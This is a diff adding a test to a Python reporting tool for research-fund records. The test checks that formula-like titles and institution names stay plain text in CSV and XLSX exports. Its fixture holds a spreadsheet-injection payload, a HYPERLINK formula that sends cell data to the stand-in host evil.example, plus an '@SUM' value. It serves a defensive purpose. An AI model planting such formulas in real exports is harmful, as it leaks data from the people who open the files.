@@ -14,7 +14,8 @@ from kg import derive, export, indicators
 from kg.config import Settings
 from kg.nquads import term_nt
 from kg.store import KnowledgeGraph
-from reports_world import load, staff, world  # noqa: F401
+from ingest.pipeline import ingest_paths
+from reports_world import fresh, load, staff, world  # noqa: F401
 
 PKU, LZU = "北京大学", "兰州大学"
 
@@ -166,3 +167,31 @@ def test_report_mistakes_exit_2_with_one_line_and_a_fix(runner, world):
     assert result.exit_code == 2 and "is not a known department" in result.output
     result = cli(runner, world, "report", "indicators", "--by", "type")
     assert result.exit_code == 2
+
+
+def test_record_text_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(fresh, tmp_path):
+    """Found by review: titles and institution names come from third-party files, and a
+    spreadsheet runs a cell starting with = + - @ as a formula (openpyxl even stores such a
+    string as one). The reports are public downloads."""
+    from kg import reports
+
+    title = '=HYPERLINK("http://evil.example/?d="&A1,"查看")'
+    rows = tmp_path / "dailycafi_formula.csv"
+    rows.write_text(
+        "index,approveText,title,searchYear,searchFund,searchCode,codeText,fundTypeText,personText,money,"
+        "approveYear,endYear,organization,keywords\n"
+        f'"1","91960999","{title.replace(chr(34), chr(34) * 2)}","2022","重大研究计划","A0101","A0101",'
+        '"重大研究计划","王芳","300.0","2019","2022","@SUM(1+1)大学","公式"\n', encoding="utf-8")
+    ingest_paths(fresh, [rows])
+    report = reports.compliance_report(fresh, by="institution")
+    assert any(title in map(str, row) for table in report.all_tables() for row in table.rows)
+    cells = [cell for table in report.all_tables() for row in csv.reader(io.StringIO(export.to_csv(table)))
+             for cell in row]
+    assert "'" + title in cells and "'@SUM(1+1)大学" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
+    assert "1" in cells or any(cell.isdigit() for cell in cells)   # counts stay numbers
+    book = load_workbook(export.to_xlsx(report, tmp_path / "compliance.xlsx"))
+    written = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in written if cell.data_type == "f"]
+    assert title in [cell.value for cell in written]          # shown exactly as the record has it
+    assert any(isinstance(cell.value, int) for cell in written)
